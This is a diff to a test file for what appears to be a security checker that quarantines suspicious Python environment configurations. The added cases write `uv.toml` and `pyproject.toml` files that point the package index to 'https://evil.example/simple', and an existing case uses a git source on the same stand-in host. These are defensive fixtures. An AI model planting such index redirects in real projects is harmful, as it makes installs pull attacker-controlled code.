@@ -96,6 +96,14 @@ def _uv_project(source: str):
     return build
 
 
+def _file(name: str, text: str):
+    def build(w: Path, c: Path) -> Built:
+        d = copy("pt2", w)
+        (d / name).write_text(text)
+        return Built([d])
+    return build
+
+
 def _q(name: str, build, needle: str) -> Case:
     return Case(f"env_{name}", build, "quarantine", CODE, (needle,), hostile=True)
 
@@ -133,5 +141,10 @@ CASES: list[Case] = [
        "variables"),
     _q("env_path_outside", h_env_path_outside, "../../other-run/env.yaml"),
     _q("env_renamed", h_env_renamed, "deps.yaml dependencies"),
+    _q("uv_toml", _file("uv.toml", '[[index]]\nurl = "https://evil.example/simple"\ndefault = true\n'),
+       "uv.toml is uv configuration"),
+    _q("pyproject_tool_uv", _file("pyproject.toml", '[project]\nname = "m"\nversion = "0"\n\n[tool.uv]\n'
+                                  'index-url = "https://evil.example/simple"\n'), "[tool.uv]"),
+    Case("env_pyproject_without_uv", _file("pyproject.toml", '[project]\nname = "m"\nversion = "0"\n'), "pass"),
     _q("uv_lock_git", _uv_project('git = "https://evil.example/torch.git?rev=main#0123456789abcdef"'), "from git"),
 ]
